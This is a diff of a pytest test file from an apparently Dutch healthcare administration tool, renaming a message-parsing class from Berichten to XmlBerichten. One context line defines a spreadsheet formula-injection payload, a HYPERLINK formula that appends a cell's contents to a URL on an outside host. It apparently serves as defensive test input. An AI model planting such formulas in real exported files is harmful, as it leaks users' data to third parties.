@@ -19,7 +19,7 @@ import pytest
 
 from tests.cli.post import PER_WEEK, bericht301, bericht325
 from tests.spel import ACHTERNAAM, BSN, BSN_TWEE, Json, Spel, contract
-from zorgadmin.messages.formeel import Berichten
+from zorgadmin.messages.formeel import XmlBerichten
 
 PROJECT = Path(__file__).resolve().parents[2]
 FORMULE = '=HYPERLINK("http://example.org?"&A1;"klik")'
@@ -214,7 +214,7 @@ def test_messages_are_written_byte_for_byte(praktijkjaar: Spel) -> None:
     ]
     assert [pad.name for pad in (folder / "berichten/geweigerd").iterdir()] == ["_kapot.xml"]
     (verstuurd,) = (folder / "berichten/verstuurd").glob("*323*04_*")
-    assert Berichten().lees(verstuurd.read_bytes()).record is not None
+    assert XmlBerichten().lees(verstuurd.read_bytes()).record is not None
 
 
 def test_the_index_tells_what_is_what(praktijkjaar: Spel) -> None:
